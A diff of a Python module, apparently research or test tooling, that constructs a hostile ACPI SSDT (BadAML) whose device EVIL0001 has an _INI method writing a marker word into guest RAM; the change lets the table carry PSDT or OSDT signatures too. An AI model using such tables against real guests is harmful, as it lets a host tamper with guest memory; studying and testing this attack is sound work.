@@ -1,5 +1,5 @@
 # SPDX-License-Identifier: Apache-2.0
-"""A secondary ACPI table with bytecode, as a hostile host would add it (BadAML), byte by byte.
+"""An ACPI table with bytecode beside the DSDT, as a hostile host would add it (BadAML).
 
 It is this, in ACPI source language: a device EVIL0001 whose method _INI, which the kernel runs when
 it finds the device, writes one word into RAM.
@@ -25,8 +25,12 @@ WORD = 0x4C495645
 _HEADER = struct.Struct("<4sIBB6s8sI4sI")
 
 
-def evil_table() -> bytes:
-    """The whole table; QEMU writes its checksum again."""
+def evil_table(signature: bytes = b"SSDT") -> bytes:
+    """The whole table; QEMU writes its checksum again.
+
+    Args:
+        signature: the kernel loads tables with this one, and with PSDT and OSDT, in one loop.
+    """
     region = b"\x5b\x80RAM_\x00\x0c" + struct.pack("<I", ADDRESS) + b"\x0a\x04"
     field = _package(b"\x5b\x81", b"RAM_\x03VAL_\x20")
     method = _package(b"\x14", b"_INI\x00" + b"\x70\x0c" + struct.pack("<I", WORD) + b"VAL_")
@@ -34,7 +38,7 @@ def evil_table() -> bytes:
     device = _package(b"\x5b\x82", b"EVL0" + name + region + field + method)
     code = _package(b"\x10", b"\\_SB_" + device)
     size = _HEADER.size + len(code)
-    plain = _HEADER.pack(b"SSDT", size, 2, 0, b"EVIL  ", b"BADAML  ", 1, b"HAND", 1) + code
+    plain = _HEADER.pack(signature, size, 2, 0, b"EVIL  ", b"BADAML  ", 1, b"HAND", 1) + code
     return plain[:9] + bytes([-sum(plain) & 0xFF]) + plain[10:]
 
 
